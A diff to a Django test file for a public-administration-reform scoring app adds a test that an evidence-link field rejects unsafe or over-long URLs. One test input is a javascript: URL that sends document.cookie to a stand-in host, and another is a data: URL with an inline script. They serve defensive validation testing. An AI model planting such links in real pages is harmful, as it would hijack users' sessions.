@@ -1,6 +1,7 @@
 """The PAR Index pages and API: who sees what, a score saved from the page, errors that keep
 what was typed."""
 
+import pytest
 from django.test import Client
 from rest_framework.test import APIClient
 
@@ -263,3 +264,28 @@ def test_self_assessment_appraisal_and_publication_through_the_api(par_round, ho
     assert {x["unit"] for x in ranking} == {home.dept.code, home.other.code}
     again = organiser.post(publish, {}, format="json")
     assert again.status_code == 409 and again.json()["error"]["code"] == "published"
+
+
+@pytest.mark.parametrize("url", ["javascript:fetch('//x.example/'+document.cookie)",
+                                 "data:text/html,<script>alert(1)</script>",
+                                 "https://example.vn/" + "a" * 300])
+def test_an_evidence_link_is_an_http_address_within_its_column(par_round, home, url):
+    """The link is shown to the appraisers as <a href>: a javascript: address would run in their
+    session on a browser without the CSP, and one past the column's 200 characters was a 500 on
+    PostgreSQL. Refused naming the field, as a task's evidence link is (reform/services/tasks)."""
+    from motcua.errors import DomainError
+    from reform.par.services import score_declare
+
+    score = par_round.assessments.get(unit=home.dept).scores.get(criterion__code="1.1")
+    with pytest.raises(DomainError) as caught:
+        score_declare(score=score, actor=home.dept_officer, value="yes", evidence_url=url)
+    assert "evidence_url" in caught.value.fields
+    score.refresh_from_db()
+    assert score.evidence_url == "" and score.value == ""
+    page = _client(home.dept_officer).post(
+        f"/cai-cach/chi-so-cchc/danh-gia/{score.assessment_id}/diem/{score.pk}/",
+        {"value": "yes", "evidence_url": url})
+    assert page.status_code == 400
+    ok = score_declare(score=score, actor=home.dept_officer, value="yes",
+                       evidence_url=" https://stp.example.gov.vn/bao-cao.pdf ")
+    assert ok.evidence_url == "https://stp.example.gov.vn/bao-cao.pdf"
